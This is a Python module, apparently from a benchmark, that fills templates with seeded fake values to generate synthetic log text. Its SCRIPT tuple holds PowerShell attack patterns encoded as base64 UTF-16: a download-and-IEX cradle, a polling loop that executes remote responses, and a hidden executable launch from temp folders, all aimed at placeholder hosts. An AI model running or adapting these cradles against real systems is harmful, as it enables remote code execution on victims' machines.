"""Texts with places that are filled from a seeded generator: `<name>` anew, `{name}` once."""

from __future__ import annotations

import base64
import re
from collections.abc import Callable, Mapping, Sequence
from random import Random

Maker = Callable[[Random], str]
Words = Mapping[str, Sequence[str]]

TEMPORARY = (
    r"C:\Users\{}\AppData\Local\Temp",
    r"C:\Windows\Temp",
    r"C:\ProgramData\{}",
    r"C:\Users\Public",
    r"C:\Temp\{}",
    r"C:\PerfLogs",
)
ZONES = ("example.com", "example.net", "example.org")
SCRIPT = (
    "$a=New-Object Net.WebClient;$a.Headers.Add('X','{0}');IEX $a.DownloadString('{1}/{2}')",
    "while(1){{try{{$r=Invoke-RestMethod {1}/{0};IEX $r}}catch{{}};Start-Sleep {3}}}",
    "Start-Process -WindowStyle Hidden {4}\\{0}.exe -ArgumentList '{2}'",
)


class Makers:
    """What `<name>` can be. Words come from the tables in `bench/data/words.yml`."""

    def __init__(self, words: Words) -> None:
        self._words = words
        named: dict[str, Maker] = {
            "guid": guid,
            "pid": lambda rng: str(rng.randrange(1, 6000) * 4),
            "cv": lambda rng: f"{_base64(rng, 12).rstrip('=')}.0.{rng.randrange(40)}",
            "date": lambda rng: f"2026-{rng.randrange(1, 13):02}-{rng.randrange(1, 29):02}",
            "ip": lambda rng: f"203.0.113.{rng.randrange(1, 255)}",
            "port": lambda rng: str(
                rng.choice((443, 4444, 8080, 8443, rng.randrange(1025, 60000)))
            ),
            "domain": lambda rng: f"{self.word(rng)}.example",
            "host": lambda rng: f"NW-{self.word(rng).upper()}{rng.randrange(100):02}",
            "hex32up": lambda rng: f"{rng.getrandbits(128):032X}",
            "hex16up": lambda rng: f"{rng.getrandbits(64):016X}",
            "word": self.word,
            "user": self.user,
            "url": self.url,
            "tmp": self.folder,
            "path": self.path,
            "b64": self.script,
            "b64s": lambda rng: _base64(rng, rng.randrange(24, 60)),
        }
        named |= {f"u{n}": _digits(n) for n in (1, 2, 3, 4, 6, 10)}
        named |= {f"hex{n}": _hex(n) for n in (3, 8, 12, 16, 32)}
        self.named: Mapping[str, Maker] = named

    def word(self, rng: Random) -> str:
        """A noun, often two or one with a number."""
        nouns = self._words["noun"]
        first = rng.choice(nouns)
        kind = rng.randrange(3)
        return first if kind == 0 else first + (rng.choice(nouns) if kind == 1 else _digits(3)(rng))

    def user(self, rng: Random) -> str:
        """An account's name."""
        return f"{rng.choice(self._words['first'])}.{rng.choice(self._words['last'])}"

    def url(self, rng: Random) -> str:
        """Scheme and host, on names that belong to nobody."""
        place = (
            f"{self.word(rng)}.{rng.choice(ZONES)}" if rng.random() < 0.7 else self.named["ip"](rng)
        )
        return f"{rng.choice(('http', 'https'))}://{place}"

    def folder(self, rng: Random) -> str:
        """A folder that anyone may write to."""
        return rng.choice(TEMPORARY).format(self.word(rng))

    def path(self, rng: Random) -> str:
        """Two to four folders deep, on a drive."""
        parts = [self.word(rng) for _ in range(rng.randrange(2, 5))]
        return "\\".join((rng.choice(("C:", "C:", "D:", "E:")), *parts))

    def script(self, rng: Random) -> str:
        """A small script as PowerShell takes it encoded: base64 of UTF-16."""
        words = (self.word(rng), self.url(rng), self.word(rng), _digits(2)(rng), self.folder(rng))
        text = rng.choice(SCRIPT).format(*words)
        return base64.b64encode(text.encode("utf-16-le")).decode()


class Template:
    """A text whose `<name>` places are made anew by each `fill`."""

    def __init__(self, text: str, makers: Mapping[str, Maker]) -> None:
        pieces = re.split(r"<(\w+)>", text)
        unknown = [name for name in pieces[1::2] if name not in makers]
        if unknown:
            raise ValueError(f"no maker {unknown[0]!r} for {text!r}")
        self._parts: tuple[str | Maker, ...] = tuple(
            makers[piece] if at % 2 else piece for at, piece in enumerate(pieces) if piece
        )
        self.constant = len(pieces) == 1

    def fill(self, rng: Random) -> str:
        """The text with all its places filled."""
        return "".join(part if isinstance(part, str) else part(rng) for part in self._parts)


def guid(rng: Random) -> str:
    """A GUID in capitals, without braces."""
    text = f"{rng.getrandbits(128):032X}"
    return f"{text[:8]}-{text[8:12]}-{text[12:16]}-{text[16:20]}-{text[20:]}"


def _digits(count: int) -> Maker:
    low, high = (10 ** (count - 1) if count > 1 else 0), 10**count
    return lambda rng: str(rng.randrange(low, high))


def _hex(count: int) -> Maker:
    return lambda rng: f"{rng.getrandbits(4 * count):0{count}x}"


def _base64(rng: Random, count: int) -> str:
    return base64.b64encode(rng.randbytes(count)).decode()
